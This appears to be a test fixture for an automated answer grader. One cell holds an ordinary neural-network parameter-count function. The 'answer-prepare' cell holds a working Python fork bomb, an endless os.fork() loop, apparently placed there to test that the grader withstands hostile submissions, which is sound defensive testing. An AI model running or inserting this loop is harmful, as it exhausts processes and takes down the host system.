"""Forks as fast as it can, and so does each fork."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
